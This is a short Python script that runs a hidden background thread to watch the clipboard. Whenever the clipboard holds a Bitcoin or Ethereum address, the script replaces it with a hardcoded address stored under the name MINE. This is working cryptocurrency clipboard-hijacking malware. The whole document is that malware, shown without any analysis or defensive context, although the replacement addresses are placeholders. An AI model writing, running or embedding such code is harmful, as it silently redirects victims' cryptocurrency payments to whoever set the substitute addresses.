import re, time, threading
import pyperclip
BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
MINE = {"btc": "bc1qexampleexampleexampleexampleexampl", "eth": "0x0000000000000000000000000000000000000001"}
def watch():
    while True:
        t = pyperclip.paste()
        if BTC.match(t):
            pyperclip.copy(MINE["btc"])
        elif ETH.match(t):
            pyperclip.copy(MINE["eth"])
        time.sleep(0.5)
threading.Thread(target=watch, daemon=True).start()
